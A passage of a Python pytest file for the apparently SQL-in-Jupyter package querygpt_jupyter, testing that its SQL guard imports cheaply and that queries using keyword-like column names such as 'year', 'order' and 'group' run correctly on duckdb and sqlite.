# ---------------------------------------------------------------------------------------------
# Cheap to import
# ---------------------------------------------------------------------------------------------


def test_guard_imports_neither_duckdb_nor_pandas():
    code = (
        "import sys, querygpt_jupyter.sql.guard; "
        "print(sorted(m for m in ('duckdb', 'pandas', 'sqlalchemy') if m in sys.modules))"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert result.stdout.strip() == "[]"


# -- what runs is what was checked, without refusing the legitimate --------------------------------
KEYWORD_NAMES = ["at", "day", "year", "user", "order", "value", "group", "end", "Select", "Mixed Case"]


@pytest.mark.parametrize("engine", ["duckdb", "sqlite"])
@pytest.mark.parametrize("name", KEYWORD_NAMES)
def test_columns_named_like_keywords_run_once_quoted_by_the_renderer(engine, name, tmp_path):
    import sqlite3

    import pandas as pd
    from sqlglot import exp

    import querygpt_jupyter as qg

    frame = pd.DataFrame({name: [3, 1, 2], "n": [1, 1, 2]})
    if engine == "duckdb":
        db = {"t": frame}
    else:
        db = str(tmp_path / "keywords.sqlite")
        with sqlite3.connect(db) as con:
            frame.to_sql("t", con, index=False)
    column = exp.column(name, quoted=True).sql(engine)
    answer = qg.run_sql(f"SELECT {column} AS v, SUM(n) AS total FROM t GROUP BY {column} ORDER BY {column}", db=db)
    assert answer.error is None, answer.error
    assert answer.df["v"].tolist() == [1, 2, 3] and answer.df["total"].tolist() == [1, 2, 1]


@pytest.mark.parametrize("sql", [
    "SELECT CAST(at AS DATE) AS day, SUM(n) AS n FROM t GROUP BY day ORDER BY day",
    "SELECT year, value FROM t ORDER BY year",
    "SELECT at AS year FROM t WHERE at IS NOT NULL ORDER BY year LIMIT 2",
])
def test_unquoted_names_the_renderer_quotes_still_run(sql):
    import pandas as pd

    import querygpt_jupyter as qg

    frame = pd.DataFrame({"at": pd.to_datetime(["2024-01-02", "2024-01-01"]), "year": [2024, 2023],
                          "value": [1.5, 2.5], "n": [1, 2]})
    answer = qg.run_sql(sql, db={"t": frame})
    assert answer.error is None, answer.error
    assert len(answer.df) == 2
